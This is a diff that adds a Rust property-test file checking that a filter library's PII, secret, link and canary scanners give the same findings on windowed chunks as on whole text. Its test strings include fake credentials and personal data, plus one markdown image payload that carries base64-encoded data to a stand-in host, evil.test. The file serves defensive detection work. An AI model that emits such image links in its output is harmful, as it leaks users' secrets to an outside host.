@@ -1,0 +1,219 @@
+//! The law of windows, for all shipped scanners over one soup of what each of them
+//! looks for: where one scanner finds nothing, another's text must not confuse it.
+
+use std::sync::{Arc, LazyLock};
+
+use alfred_filters::guard::canary::Canary;
+use alfred_filters::guard::links::Links;
+use alfred_filters::guard::own::{Own, OwnTerms};
+use alfred_filters::guard::own_patterns::Patterns;
+use alfred_filters::guard::pii::Pii;
+use alfred_filters::guard::policy::Scan;
+use alfred_filters::guard::secrets::Secrets;
+use alfred_filters::guard::window::{LEFT_CONTEXT, OPEN};
+use alfred_filters::guard::{Entity, Finding, Window};
+use proptest::prelude::*;
+
+const KEY: [u8; 32] = [7; 32];
+
+type Scanners = Vec<(&'static str, Arc<dyn Scan>)>;
+
+static SCANNERS: LazyLock<Scanners> = LazyLock::new(scanners);
+
+fn scanners() -> Scanners {
+    let terms = ["Acme", "Acme Corp", "Müller AG", "株式会社"].map(str::to_owned);
+    let terms = OwnTerms {
+        terms: terms.to_vec(),
+        ignore_case: true,
+    };
+    let patterns = [r"\bEMP-\d{6}\b", r"(?i)proj[ -]?\w{1,9}", "ab|abcd"].map(str::to_owned);
+    let hosts = ["cdn.acme.test".to_owned()];
+    let canary = Canary::new(&Canary::word(&KEY, "req_1"));
+    vec![
+        ("pii", Arc::new(Pii::new(Entity::ALL))),
+        ("secrets", Arc::new(Secrets::new())),
+        ("own", Arc::new(Own::new(&[terms]).unwrap())),
+        ("patterns", Arc::new(Patterns::new(1, &patterns).unwrap())),
+        ("links", Arc::new(Links::new(&hosts))),
+        ("canary", Arc::new(canary)),
+    ]
+}
+
+/// What the scanners look for, pieces of it, and what stands between.
+fn soup() -> Vec<String> {
+    let texts = [
+        "jane.doe@example.com",
+        "jane@",
+        "@",
+        ".",
+        ",",
+        ":",
+        " ",
+        "\n",
+        "\n\n",
+        "\t",
+        "\"",
+        "'",
+        "(",
+        ")",
+        "[",
+        "]",
+        "{",
+        "}",
+        "<",
+        ">",
+        "/",
+        "//",
+        "\\",
+        "-",
+        "_",
+        "=",
+        "==",
+        "!",
+        "?",
+        "&",
+        "#",
+        "%20",
+        "+",
+        "4111 1111 1111 1111",
+        "4111111111111111",
+        "4111-",
+        "1111",
+        "12",
+        "0",
+        "7",
+        "DE89 3704 0044 0532 0130 00",
+        "GB82WEST12345698765432",
+        "+49 30 901820",
+        "(212) 555-0142",
+        "phone",
+        "192.0.2.17",
+        "8.8.8.8",
+        "2001:db8::1",
+        "fe80:",
+        "00:1b:44:11:3a:b7",
+        "SSN 078-05-1120",
+        "born 1980-02-29",
+        "password",
+        "password: ",
+        "secret=",
+        "api_key",
+        "token",
+        "Authorization: Bearer ",
+        "export ",
+        "-----BEGIN ",
+        "PRIVATE KEY-----",
+        "-----END ",
+        "postgres://user:pa55@db.example.com/x",
+        "https://example.com/a",
+        "https:",
+        "http",
+        "![a](",
+        "[a](",
+        "]: ",
+        "<img src=",
+        "https://evil.test/?q=",
+        "![b](https://evil.test/?q=dGhlIHBhc3N3b3JkIG9mIEphbmUgaXMgdHVsaXA0Mg)",
+        "dGhlIHBhc3N3b3JkIG9mIEphbmUgaXMgdHVsaXA0Mg",
+        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b",
+        "the quick brown fox",
+        "Acme",
+        "acme corp",
+        "Corp",
+        "MÜLLER",
+        "ag",
+        "EMP-123456",
+        "proj",
+        "abcd",
+        "cd",
+        "é",
+        "日本",
+        "株式会社",
+        "\u{200b}",
+        "😀",
+        "x",
+        "Zq8",
+        "aB3dE6gH9jK2mN5pQ8rS1tU4vW7xY0zA",
+    ];
+    let canary = Canary::word(&KEY, "req_1");
+    let secrets = [
+        concat!("gh", "p_", "aB3dE6gH9jK2mN5pQ8rS1tU4vW7xY0zA1bC2"),
+        concat!("AK", "IA", "Q3EGRZT7HX2MVWNB"),
+        concat!("sk", "-", "proj", "-"),
+        concat!("xo", "xb-", "123456789012-123456789012-"),
+        concat!("ey", "JhbGciOiJIUzI1NiJ9.", "ey", "JzdWIiOiIxIn0."),
+    ];
+    let all = texts.into_iter().chain(secrets).chain([canary.as_str()]);
+    all.map(str::to_owned).collect()
+}
+
+fn boundary(text: &str, at: usize) -> usize {
+    (0..=at)
+        .rev()
+        .find(|at| text.is_char_boundary(*at))
+        .unwrap_or_default()
+}
+
+/// Scans a text of which only the left context that the law grants is kept.
+fn in_pieces(scanner: &dyn Scan, text: &str, cuts: &[usize]) -> Vec<Finding> {
+    let (mut out, mut from) = (Vec::new(), 0_usize);
+    for cut in cuts.iter().copied().chain([text.len()]) {
+        let base = boundary(text, from.saturating_sub(LEFT_CONTEXT));
+        let window = Window {
+            text: &text[base..cut],
+            from: from - base,
+            last: cut == text.len(),
+        };
+        let before = out.len();
+        from = base + scanner.scan(window, &mut out);
+        assert!(cut - from <= OPEN, "too much is held");
+        for finding in &mut out[before..] {
+            finding.span = finding.span.start + base..finding.span.end + base;
+        }
+    }
+    out
+}
+
+fn obeys(text: &str, cuts: &[usize]) {
+    let mut cuts: Vec<usize> = cuts
+        .iter()
+        .map(|at| boundary(text, at % (text.len() + 1)))
+        .collect();
+    cuts.retain(|at| *at < text.len());
+    cuts.sort_unstable();
+    for (name, scanner) in SCANNERS.iter() {
+        let mut whole = Vec::new();
+        scanner.scan(Window::whole(text), &mut whole);
+        let pieces = in_pieces(&**scanner, text, &cuts);
+        assert_eq!(pieces, whole, "{name} at {cuts:?} of {text:?}");
+    }
+}
+
+#[test]
+fn the_soup_holds_something_for_every_scanner() {
+    let text = soup().join(" ");
+    for (name, scanner) in SCANNERS.iter() {
+        let mut out = Vec::new();
+        scanner.scan(Window::whole(&text), &mut out);
+        assert!(!out.is_empty(), "{name}");
+    }
+}
+
+proptest! {
+
+    #[test]
+    fn no_scanner_is_confused_by_cuts_of_a_soup(
+        parts in proptest::collection::vec(proptest::sample::select(soup()), 0..24),
+        cuts in proptest::collection::vec(0_usize..10_000, 0..10),
+    ) {
+        obeys(&parts.concat(), &cuts);
+    }
+
+    #[test]
+    fn no_scanner_is_confused_by_cuts_of_words(
+        parts in proptest::collection::vec(proptest::sample::select(soup()), 0..24),
+        cuts in proptest::collection::vec(0_usize..10_000, 0..10),
+    ) {
+        obeys(&parts.join(" "), &cuts);
+    }
+}
